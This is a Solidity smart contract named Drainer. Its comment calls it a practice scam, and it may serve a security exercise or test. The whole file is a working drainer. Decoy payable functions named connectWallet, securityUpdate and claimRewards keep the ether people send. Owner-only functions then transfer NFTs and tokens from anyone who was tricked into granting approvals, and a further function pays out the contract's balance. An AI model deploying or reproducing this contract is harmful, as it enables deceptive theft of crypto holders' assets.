// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

interface IErc721 {
    function transferFrom(address from, address to, uint256 id) external;
}

interface IErc1155 {
    function safeBatchTransferFrom(
        address from,
        address to,
        uint256[] calldata ids,
        uint256[] calldata values,
        bytes calldata data
    ) external;
}

/// @notice A scam for practice. People are led to make it operator of their collectibles (`setApprovalForAll`) or to raise its allowance
/// (`increaseAllowance`); then its owner takes. Its own calls have harmless names and keep what is paid.
contract Drainer {
    address public immutable owner;

    error NotOwner();

    modifier onlyOwner() {
        if (msg.sender != owner) revert NotOwner();
        _;
    }

    constructor(address owner_) {
        owner = owner_;
    }

    function connectWallet() external payable {}

    function securityUpdate() external payable {}

    function claimRewards(address) external payable {}

    function takeCollectibles(IErc721 collection, address from, uint256[] calldata ids) external onlyOwner {
        for (uint256 i = 0; i < ids.length; i++) collection.transferFrom(from, owner, ids[i]);
    }

    function takeMany(IErc1155 collection, address from, uint256[] calldata ids, uint256[] calldata values)
        external
        onlyOwner
    {
        collection.safeBatchTransferFrom(from, owner, ids, values, "");
    }

    function takeTokens(address token, address from, uint256 value) external onlyOwner {
        (bool ok,) =
            token.call(abi.encodeWithSignature("transferFrom(address,address,uint256)", from, owner, value));
        require(ok, "Drainer: not allowed");
    }

    function cashOut() external onlyOwner {
        (bool ok,) = owner.call{value: address(this).balance}("");
        require(ok, "Drainer: refused");
    }
}
